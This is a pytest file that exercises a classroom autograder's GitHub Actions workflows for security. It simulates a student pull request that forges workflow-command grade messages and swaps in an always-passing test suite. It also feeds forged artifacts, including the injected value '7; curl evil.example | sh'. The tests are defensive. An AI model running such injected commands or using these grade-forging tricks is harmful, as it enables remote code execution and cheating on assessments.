"""The GitHub Actions workflows, run here: grade.yml's and comment.yml's own steps, in order,
against a temporary repository holding a base commit and a pull-request commit, with GitHub's
files and variables pointed at temporary ones (tests/workflow_runner.py). Also their lint
(zizmor, actionlint), pinning and permissions, and the project CI's release check."""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml

from conftest import REPO
from workflow_runner import JobRunner, Step, runner_env

WORKFLOWS = REPO / ".github" / "workflows"
VENV_BIN = Path(sys.executable).parent
REPOSITORY = "class/ml-coding-round"
PR_NUMBER = 7
P06 = "assignments/ps3_nn_primitives/p06_softmax_cross_entropy"
P08 = "assignments/ps2_classic_ml/p08_logistic_regression"
P08_SUITE = "autograder/suites/test_p08_logistic_regression.py"
FORGED = "::warning title=forged::Points 999/999"  # what a student prints to fake a grade


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def commit_all(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", message)
    return git(repo, "rev-parse", "HEAD")


def project_files() -> list[str]:
    """The project as a fresh clone would hold it, with this checkout's uncommitted changes."""
    listed = git(REPO, "ls-files", "-z", "--cached", "--others", "--exclude-standard")
    return [name for name in listed.split("\0") if name and (REPO / name).is_file()]


def passing_suite(suite: Path) -> str:
    """The same test names, each passing without looking at the student: if the grader ran this
    copy from the pull request, every test of the problem would pass."""
    names = re.findall(r"^def (test_\w+)\(", suite.read_text(), flags=re.M)
    return "".join(f"def {name}(student):\n    pass\n\n\n" for name in names)


@pytest.fixture(scope="module")
def origin(tmp_path_factory) -> dict:
    """A repository with the project as its base commit and a pull request on top: p06 solved,
    p08 wrong (and raising a forged workflow command), and p08's suite made to pass anything."""
    repo = tmp_path_factory.mktemp("origin") / "repo"
    repo.mkdir()
    for name in project_files():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(REPO / name, repo / name)
    git(repo, "init", "-q", "-b", "main")
    base = commit_all(repo, "base")

    shutil.copy(
        REPO / "source/ps3_nn_primitives/p06_softmax_cross_entropy.ipynb", repo / f"{P06}.ipynb"
    )
    wrong = (
        REPO / "source/ps2_classic_ml/variants/p08_logistic_regression/clipped_log_loss.py"
    ).read_text()
    (repo / f"{P08}.ipynb").unlink()
    (repo / f"{P08}.py").write_text(
        wrong
        + textwrap.dedent(f"""

            print({FORGED!r})


            def train(X, y, lr=0.1, steps=100, l2=0.0):
                raise ValueError({FORGED!r})
            """)
    )
    (repo / P08_SUITE).write_text(passing_suite(REPO / P08_SUITE))
    head = commit_all(repo, "student's pull request")
    git(repo, "checkout", "-q", base)  # GitHub's repository is not checked out anywhere
    return {"repo": repo, "base": base, "head": head}


# ---------------------------------------------------------------- stand-ins for the actions


def checkout(origin_repo: Path, default_ref: str):
    def run(step: Step, job: JobRunner) -> None:
        inputs = job.inputs(step)
        assert inputs.get("persist-credentials") == "false", f"{step.name}: token left on disk"
        dest = job.workspace / inputs.get("path", ".")
        subprocess.run(
            ["git", "clone", "-q", "--no-checkout", str(origin_repo), str(dest)], check=True
        )
        git(dest, "checkout", "-q", "--detach", inputs.get("ref") or default_ref)

    return run


def setup_python(step: Step, job: JobRunner) -> None:
    assert job.inputs(step)["python-version"] == "3.11"  # the steps' PATH starts at our venv


def pip_cache(record: dict):
    """actions/cache/restore (a miss) and actions/cache/save: the same key, pip's folder."""

    def run(step: Step, job: JobRunner) -> None:
        inputs = job.inputs(step)
        assert inputs["path"] == "~/.cache/pip" and re.fullmatch(
            r"pip-[\w.-]+-[0-9a-f]{20}", inputs["key"]
        )
        record.setdefault("keys", []).append(inputs["key"])
        record["installed_before_save"] = any(
            "install-grader" in s.spec.get("run", "") for s in job.steps
        )

    return run


def upload_artifact(store: dict):
    def run(step: Step, job: JobRunner) -> None:
        inputs = job.inputs(step)
        source = job.workspace / inputs["path"]
        assert inputs["if-no-files-found"] == "error" and source.is_dir() and any(source.iterdir())
        store[inputs["name"]] = Path(
            shutil.copytree(source, job.temp / f"artifact-{inputs['name']}")
        )

    return run


def classroom_reporter(record: dict):
    """What classroom-resources/autograding-grading-reporter does with its runners' results."""

    def run(step: Step, job: JobRunner) -> None:
        runners = job.inputs(step)["runners"]
        assert re.fullmatch(r"([a-zA-Z0-9]+,)*[a-zA-Z0-9]+", runners), runners
        results = [
            json.loads(base64.b64decode(step.env[f"{runner.upper()}_RESULTS"]))
            for runner in runners.split(",")
        ]
        record["results"] = results
        record["points"] = (
            sum(t["score"] for r in results for t in r["tests"]),
            sum(r["max_score"] for r in results),
        )
        step.returncode = 1 if any(r["status"] != "pass" for r in results) else 0

    return run


def download_artifact(store: dict, run_id: int):
    def run(step: Step, job: JobRunner) -> None:
        inputs = job.inputs(step)
        assert inputs["run-id"] == str(run_id) and inputs["github-token"]
        shutil.copytree(store[inputs["name"]], job.workspace / inputs["path"])

    return run


def sticky_comment(record: dict):
    def run(step: Step, job: JobRunner) -> None:
        inputs = job.inputs(step)
        record.update(inputs, body=(job.workspace / inputs["path"]).read_text())

    return run


FAKE_GH = """#!{python}
# GitHub's CLI as comment.yml uses it, answering from files the test wrote.
import os, sys
from pathlib import Path
here = Path(__file__).parent
assert os.environ.get("GH_TOKEN"), "gh called without GH_TOKEN"
args = [a for a in sys.argv[1:] if a != "--paginate"]
if args == ["api", "repos/{repo}/pulls/{number}", "--jq", ".head.sha"]:
    print((here / "pr-head").read_text())
elif args == ["api", "repos/{repo}/pulls/{number}/files", "--jq", ".[].filename"]:
    print((here / "pr-files").read_text(), end="")
else:
    sys.exit(f"fake gh: unexpected arguments {{sys.argv[1:]}}")
"""


def fake_gh(folder: Path, head: str, files: list[str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    gh = folder / "gh"
    gh.write_text(FAKE_GH.format(python=sys.executable, repo=REPOSITORY, number=PR_NUMBER))
    gh.chmod(0o755)
    (folder / "pr-head").write_text(head)
    (folder / "pr-files").write_text("".join(f"{name}\n" for name in files))
    return folder


# ---------------------------------------------------------------- the two jobs


@pytest.fixture(scope="module")
def graded(origin, tmp_path_factory) -> dict:
    """grade.yml's job for the pull request, every step as written."""
    workspace = tmp_path_factory.mktemp("grade") / "workspace"
    workspace.mkdir()
    store, classroom, cache = {}, {}, {}
    github = {
        "event_name": "pull_request",
        "sha": origin["head"],
        "ref": f"refs/pull/{PR_NUMBER}/merge",
        "repository": REPOSITORY,
        "token": "read-only-token",
        "event": {
            "pull_request": {
                "number": PR_NUMBER,
                "base": {"sha": origin["base"]},
                "head": {"sha": origin["head"]},
            }
        },
    }
    job = JobRunner(
        WORKFLOWS / "grade.yml",
        "grade",
        workspace,
        github,
        {
            "actions/checkout": checkout(origin["repo"], origin["head"]),
            "actions/setup-python": setup_python,
            "actions/cache/restore": pip_cache(cache),
            "actions/cache/save": pip_cache(cache),
            "actions/upload-artifact": upload_artifact(store),
            "classroom-resources/autograding-grading-reporter": classroom_reporter(classroom),
        },
        runner_env([VENV_BIN]),
    )
    steps = job.run()
    return {
        "steps": {s.id or s.name: s for s in steps},
        "list": steps,
        "store": store,
        "classroom": classroom,
        "cache": cache,
    }


def step_named(graded: dict, prefix: str) -> Step:
    return next(s for s in graded["list"] if s.name.startswith(prefix))


def test_every_grade_step_ran_and_only_the_classroom_check_is_red(graded):
    for step in graded["list"][:-1]:
        assert step.ran and step.returncode == 0, (
            f"{step.name}:\n{step.stdout[-2000:]}\n{step.stderr[-3000:]}"
        )
    reporter = graded["list"][-1]
    assert reporter.ran and reporter.returncode == 1  # p08 lost points: Classroom shows a fail
    # pip's cache is restored, then saved once the install is done, before anything can fail
    keys = graded["cache"]["keys"]
    assert len(keys) == 2 and keys[0] == keys[1] and graded["cache"]["installed_before_save"]


def test_the_artifact_grades_the_pr_head_with_the_base_commits_suites(graded, origin):
    artifact = graded["store"]["grade"]
    assert sorted(p.name for p in artifact.iterdir()) == sorted(
        [
            "results.json",
            "results.md",
            "classroom.json",
            "pr-number",
            "head-sha",
            "base-sha",
            "changed-files.txt",
        ]
    )
    assert (artifact / "pr-number").read_text().strip() == str(PR_NUMBER)
    assert (artifact / "head-sha").read_text().strip() == origin["head"]
    assert (artifact / "base-sha").read_text().strip() == origin["base"]
    results = json.loads((artifact / "results.json").read_text())
    by_id = {p["id"]: p for p in results["problems"]}
    p06, p08 = by_id["p06_softmax_cross_entropy"], by_id["p08_logistic_regression"]
    assert p06["score"] == p06["max_score"] > 0, "the solved problem scores full marks"
    # The PR's suite passes everything; the base commit's suite catches the clipped log loss.
    lost = {t["category"] for t in p08["tests"] if t["outcome"] != "passed"}
    assert p08["status"] == "graded" and 0 < p08["score"] < p08["max_score"] and "stability" in lost
    train = [t for t in p08["tests"] if "forged" in t["message"]]
    assert train and all(t["outcome"] == "error" for t in train)
    assert results["score"] == p06["score"] + p08["score"]  # untouched problems score 0
    changed = (artifact / "changed-files.txt").read_text().split()
    assert changed == sorted([f"{P06}.ipynb", f"{P08}.ipynb", f"{P08}.py", P08_SUITE])


def test_the_summary_is_the_table_and_names_the_protected_file(graded, origin):
    grade = graded["steps"]["grade"]
    table = (graded["store"]["grade"] / "results.md").read_text()
    assert grade.summary == table
    assert f"Graded commit `{origin['head'][:12]}` (pull request #{PR_NUMBER})" in table
    assert f"of commit `{origin['base'][:12]}`" in table
    assert "Protected files changed" in table and "autograder/suites/test\\_p08" in table
    assert f"{P06}.ipynb" not in table.split("Protected files changed")[1].split("\n")[0]
    assert "| `p06_softmax_cross_entropy` |" in table and "<details>" in table


def test_student_text_in_the_log_is_inside_stop_commands(graded):
    out = graded["steps"]["grade"].stdout
    start = re.search(r"^::stop-commands::([0-9a-f]{32})$", out, flags=re.M)
    assert start, out[:500]
    end = out.index(f"\n::{start.group(1)}::")
    assert "forged" in out and start.end() < out.index("forged") < end
    assert "forged" not in out[end:]


def test_classroom_points_are_the_tables_points(graded):
    results = json.loads((graded["store"]["grade"] / "results.json").read_text())
    classroom = graded["classroom"]
    assert classroom["points"] == (results["score"], results["max_score"])
    (runner,) = classroom["results"]
    assert runner["status"] == "fail" and runner["version"] == 1
    tests = {t["name"]: t for t in runner["tests"]}
    assert tests["p06_softmax_cross_entropy"]["status"] == "pass"
    assert tests["p08_logistic_regression"]["status"] == "fail"
    assert all(t["line_no"] == 0 and isinstance(t["score"], int | float) for t in tests.values())
    assert "::" not in json.dumps(runner)  # the reporter prints messages unprotected


def run_comment_job(
    origin, graded, tmp_path, pr_head=None, artifact=None
) -> tuple[list[Step], dict]:
    """comment.yml's job after the Grade run, with GitHub's API answered by a fake `gh`."""
    workspace = tmp_path / "workspace"
    workspace.mkdir(parents=True)
    store = {"grade": artifact or graded["store"]["grade"]}
    changed = (graded["store"]["grade"] / "changed-files.txt").read_text().split()
    bin_dir = fake_gh(tmp_path / "bin", pr_head or origin["head"], changed)
    github = {
        "event_name": "workflow_run",
        "sha": origin["base"],  # the default branch
        "repository": REPOSITORY,
        "token": "write-token",
        "event": {
            "workflow_run": {"event": "pull_request", "head_sha": origin["head"], "id": 4242}
        },
    }
    comment: dict = {}
    job = JobRunner(
        WORKFLOWS / "comment.yml",
        "comment",
        workspace,
        github,
        {
            "actions/checkout": checkout(origin["repo"], origin["base"]),
            "actions/download-artifact": download_artifact(store, 4242),
            "marocchino/sticky-pull-request-comment": sticky_comment(comment),
        },
        runner_env([bin_dir, VENV_BIN]),
    )
    return job.run(), comment


def test_the_comment_is_one_sticky_table_of_the_graded_commit(origin, graded, tmp_path):
    steps, comment = run_comment_job(origin, graded, tmp_path)
    assert all(s.returncode == 0 for s in steps), [(s.name, s.stderr[-500:]) for s in steps]
    assert comment["number_force"] == str(PR_NUMBER) and comment["header"] == "ml-coding-round"
    body = comment["body"]
    results = json.loads((graded["store"]["grade"] / "results.json").read_text())
    assert body.startswith(
        f"### ML Coding Round: {results['score']:g} / {results['max_score']:g} points"
    )
    assert "| problem | shapes | correctness | stability | gradient | complexity | score |" in body
    rows = [line for line in body.splitlines() if line.startswith("| `")]
    assert rows == [
        r for p in results["problems"] for r in rows if r.startswith(f"| `{p['id']}` |")
    ]
    assert len(rows) == len(results["problems"])  # one row per problem, in order
    assert "<details><summary>p08_logistic_regression:" in body and "</details>" in body
    assert "(stability, failed): " in body  # the failure, with its message
    assert f"Graded commit `{origin['head'][:12]}`" in body
    assert "Protected files changed" in body and "test\\_p08\\_logistic\\_regression.py" in body


def test_a_forged_or_mismatched_artifact_gets_no_comment(origin, graded, tmp_path):
    good = graded["store"]["grade"]
    cases = {
        "pr-number": "7; curl evil.example | sh\n",
        "head-sha": "0" * 40 + "\n",
        "results.json": (good / "results.json")
        .read_text()
        .replace('"score": 0.0', '"score": 3.0', 1),
    }
    for index, (name, content) in enumerate(cases.items()):
        forged = tmp_path / f"forged{index}"
        shutil.copytree(good, forged)
        (forged / name).write_text(content)
        steps, comment = run_comment_job(origin, graded, tmp_path / f"run{index}", artifact=forged)
        validate = next(s for s in steps if s.id == "artifact")
        assert validate.returncode == 1 and "refused" in validate.stderr, (name, validate.stderr)
        assert not comment, f"a comment was posted from an artifact with a forged {name}"


def test_no_comment_when_the_pr_has_moved_past_the_graded_commit(origin, graded, tmp_path):
    steps, comment = run_comment_job(origin, graded, tmp_path, pr_head="f" * 40)
    assert all(s.returncode == 0 for s in steps)
    assert not comment and "the newer run comments" in next(s for s in steps if s.id == "pr").stdout


# ---------------------------------------------------------------- lint, pinning, permissions


def test_workflows_pass_zizmor_and_actionlint():
    zizmor = subprocess.run(
        [str(VENV_BIN / "zizmor"), "--offline", "--min-severity", "medium", str(WORKFLOWS)],
        capture_output=True,
        text=True,
    )
    assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr
    actionlint = subprocess.run(
        [str(VENV_BIN / "actionlint")], cwd=REPO, capture_output=True, text=True
    )
    assert actionlint.returncode == 0, actionlint.stdout + actionlint.stderr


def test_every_action_is_pinned_to_a_commit_with_its_version_in_a_comment():
    for workflow in WORKFLOWS.glob("*.yml"):
        for line in workflow.read_text().splitlines():
            if "uses:" in line:
                assert re.search(r"uses: [\w.-]+/[\w.-]+(/[\w.-]+)?@[0-9a-f]{40} # v\d", line), (
                    f"{workflow.name}: {line.strip()}"
                )


def permissions_of(workflow: Path) -> dict[str, dict]:
    spec = yaml.safe_load(workflow.read_text())
    top = spec.get("permissions")
    return {name: job.get("permissions", top) for name, job in spec["jobs"].items()}


def test_only_the_comment_job_may_write_and_the_grade_job_reads_only():
    writers = [
        (workflow.name, job)
        for workflow in WORKFLOWS.glob("*.yml")
        for job, perms in permissions_of(workflow).items()
        if perms is None or "write" in (perms.values() if isinstance(perms, dict) else [perms])
    ]
    assert writers == [("comment.yml", "comment")]
    assert permissions_of(WORKFLOWS / "grade.yml") == {"grade": {"contents": "read"}}
    assert permissions_of(WORKFLOWS / "comment.yml")["comment"]["pull-requests"] == "write"
    grade = (WORKFLOWS / "grade.yml").read_text()
    assert "${{ secrets." not in grade and "pull_request_target" not in grade


def test_project_ci_runs_make_test_and_fails_on_a_stale_release(tmp_path):
    steps = yaml.safe_load((WORKFLOWS / "ci.yml").read_text())["jobs"]["test"]["steps"]
    runs = [s.get("run", "") for s in steps]
    assert "make test" in runs and "bash .github/scripts/check-release.sh" in runs
    assert runs.index("make test") < runs.index("bash .github/scripts/check-release.sh")

    clone = tmp_path / "clone"
    clone.mkdir()
    for name in project_files():
        (clone / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(REPO / name, clone / name)
    git(clone, "init", "-q")
    commit_all(clone, "course")
    stale = clone / "release/ps3_nn_primitives/p06_softmax_cross_entropy.ipynb"
    stale.write_text(stale.read_text().replace("softmax", "softmaks", 1))  # edited by hand
    commit_all(clone, "an edit to release/")
    env = runner_env([VENV_BIN])
    done = subprocess.run(
        ["bash", ".github/scripts/check-release.sh"],
        cwd=clone,
        env={**env, "PYTHON": sys.executable},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "::error title=release/ is out of date::" in done.stdout
    assert "release/ps3_nn_primitives/p06_softmax_cross_entropy.ipynb" in done.stdout
